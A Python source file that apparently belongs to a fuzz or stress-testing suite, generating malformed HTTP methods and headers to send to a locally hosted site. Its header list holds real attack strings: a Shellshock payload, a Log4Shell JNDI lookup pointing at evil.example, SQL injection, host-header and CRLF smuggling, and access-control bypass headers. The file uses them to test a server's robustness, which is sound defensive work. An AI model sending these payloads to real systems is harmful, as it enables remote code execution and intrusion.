"""Methods and headers that browsers do not send."""

from __future__ import annotations

from stress.hostile.case import Case, kind, request

METHODS = [
    *"POST PUT DELETE PATCH TRACE CONNECT OPTIONS HEAD PROPFIND MKCOL SEARCH PURGE LOCK".split(),
    *"REPORT SOURCE M-SEARCH QUERY get Get GETT G PRI * GET/ É".split(),
    "X" * 5000,
    "G\tET",
]


@kind(3)
def methods(r, site):
    """Send methods that the site does not have, with and without a body."""
    while True:
        method = r.choice(METHODS).encode()
        body = r.choice([b"", b"sql=select+1", b'{"a": 1}', b"\x00" * 2000])
        length = [b"Content-Length: %d" % len(body)] if body or r.random() < 0.3 else []
        target = r.choice(["*", "/", "127.0.0.1:443"] + [r.choice(site.pages)] * 4)
        more = r.choice(
            [
                [],
                [b"X-HTTP-Method-Override: DELETE"],
                [b"Content-Type: application/json"],
                [b"Access-Control-Request-Method: PUT", b"Origin: https://evil.example"],
            ]
        )
        yield Case(request(target, *length, *more, method=method, body=body), kept=False)


ETAG = b'W/"1.0.0-00000000000000000000"'
HEADERS = [
    b"Range: bytes=0-0",
    b"Range: bytes=-1",
    b"Range: bytes=9-1",
    b"Range: bytes=" + b",".join(b"%d-%d" % (i, i) for i in range(300)),
    b"Range: x=1",
    b"If-Range: junk",
    b"If-None-Match: *",
    b"If-None-Match: " + ETAG,
    b'If-None-Match: "',
    b"If-None-Match: \xff",
    b"If-None-Match: " + b",".join([ETAG] * 500),
    b"If-Modified-Since: junk",
    b"If-Match: *",
    b"Accept-Encoding: gzip",
    b"Accept-Encoding: gzip;q=0",
    b"Accept-Encoding: *",
    b"Accept-Encoding: br, deflate, zstd",
    b"Accept-Encoding: " + b"gzip," * 900,
    b"Accept-Encoding: \xff",
    b"Accept: \xff",
    b"Accept: " + b"a/b," * 900,
    b"Accept-Language: ' OR 1=1",
    b"Cookie: ds_actor=junk; ds_messages=\x80",
    b"Cookie: " + b"a=b; " * 900,
    b"Authorization: Bearer \xff",
    b"X-Forwarded-For: 127.0.0.1",
    b"X-Forwarded-Proto: javascript",
    b"X-Forwarded-Host: evil.example",
    b"X-Original-URL: /-/threads",
    b"X-Rewrite-URL: /-/plugins",
    b"Expect: 100-continue",
    b"Expect: junk",
    b"Upgrade: h2c",
    b"Connection: Upgrade, HTTP2-Settings",
    b"TE: trailers",
    b"Trailer: Host",
    b"Connection: host",
    b"Connection: content-length, close",
    b"Max-Forwards: 0",
    b"Via: 1.1 evil",
    b"Origin: null",
    b"Origin: https://evil.example",
    b"Sec-Fetch-Site: cross-site",
    b"User-Agent: () { :;}; echo zqx",
    b"User-Agent: ${jndi:ldap://evil.example/a}",
    b"Content-Type: multipart/form-data; boundary=" + b"a" * 3000,
    b"Content-Encoding: gzip",
    b"Content-Length: 0",
    b"Date: junk",
    b"Transfer-Encoding: identity",
    b"Proxy: http://evil.example",
    b"A: ",
    b": a",
    b" a: b",
    b"a : b",
    b"a",
    b"a:b\x0bc",
    b"a: b\x00c",
    b"a: b\rc",
    b"\x00: b",
]

HOSTS = [
    b"Host: evil.example",
    b"Host: 127.0.0.1\r\nHost: evil.example",
    b"",
    b"Host: ",
    b"Host: evil.example:99999",
    b"Host: a b",
    b"Host: \xff",
    b"Host: <zqx>",
    b"Host: 127.0.0.1\x00",
    b"Host : a",
    b"hOsT: a",
    b"Host: [::1]:80",
    b"Host: a/../b",
    b"Host: " + b"a" * 9000,
]

VERSIONS = [
    *[b"HTTP/1.1"] * 12,
    b"HTTP/1.0",
    b"HTTP/1.2",
    b"HTTP/2.0",
    b"HTTP/9.9",
    b"http/1.1",
    b"HTTP/1.1 ",
    b"HTTP/01.1",
]


@kind(6)
def odd_headers(r, site):
    """Send headers that are invalid, odd, or meant for other kinds of sites."""
    while True:
        host = r.choice(HOSTS) if r.random() < 0.3 else b"Host: 127.0.0.1"
        version = r.choice(VERSIONS)
        yield Case(
            request(
                r.choice(site.pages + [r.choice(site.parameters)[0].replace("{key}", "1")]),
                *r.sample(HEADERS, r.randint(1, 4)),
                version=version,
                host=host,
            ),
            kept=False,
        )
